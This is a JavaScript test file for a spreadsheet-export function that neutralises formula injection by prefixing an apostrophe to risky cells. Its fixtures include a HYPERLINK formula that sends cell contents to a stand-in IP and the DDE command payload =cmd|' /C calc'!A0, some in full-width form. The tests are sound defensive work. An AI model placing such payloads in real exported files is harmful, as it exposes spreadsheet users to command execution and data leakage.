import { test } from 'node:test';
import assert from 'node:assert/strict';

import {
  FORMULA_TRIGGERS,
  describeFormulaNeutralisation,
  looksLikeFormula,
  neutraliseFormula,
} from '../../src/export/formula.js';

test('neutraliseFormula prefixes an apostrophe to every trigger at the start', () => {
  for (const trigger of FORMULA_TRIGGERS) {
    const cell = `${trigger}HYPERLINK("http://203.0.113.9/?x="&A1)`;
    assert.equal(neutraliseFormula(cell), `'${cell}`, JSON.stringify(trigger));
  }
  assert.equal(FORMULA_TRIGGERS.length, 12);
});

test('neutraliseFormula catches the classic payloads and the full-width ones', () => {
  assert.equal(neutraliseFormula("=cmd|' /C calc'!A0"), "'=cmd|' /C calc'!A0");
  assert.equal(neutraliseFormula('@SUM(1+1)'), "'@SUM(1+1)");
  assert.equal(neutraliseFormula("＝cmd|' /C calc'!A0"), "'＝cmd|' /C calc'!A0");
  assert.equal(neutraliseFormula('\t=1+1'), "'\t=1+1");
});

test('neutraliseFormula looks past leading spaces, including no-break and ideographic ones', () => {
  assert.equal(neutraliseFormula('  =1+1'), "'  =1+1");
  assert.equal(neutraliseFormula('\u00A0=1+1'), "'\u00A0=1+1");
  assert.equal(neutraliseFormula('\u3000＋1'), "'\u3000＋1");
});

test('neutraliseFormula leaves ordinary text, plain signed numbers and a lone - alone', () => {
  for (const text of [
    'C:\\Windows\\System32\\cmd.exe',
    'a=b',
    '',
    '   ',
    '-5',
    '+1.5',
    '-',
    "'=quoted",
  ]) {
    assert.equal(neutraliseFormula(text), text, JSON.stringify(text));
  }
  assert.equal(looksLikeFormula('-5+cmd|x'), true);
  assert.equal(looksLikeFormula('-'), false);
  assert.equal(looksLikeFormula('--'), true);
  assert.equal(looksLikeFormula(' -'), true);
});

test('describeFormulaNeutralisation says how, and how many cells when told', () => {
  const how = describeFormulaNeutralisation();
  assert.match(how, /^Formula neutralisation: any cell whose first character/);
  assert.match(how, /prefixed with an apostrophe \(\'\)/);
  assert.equal(describeFormulaNeutralisation(1), `${how} 1 cell was changed this way.`);
  assert.equal(describeFormulaNeutralisation(3), `${how} 3 cells were changed this way.`);
});
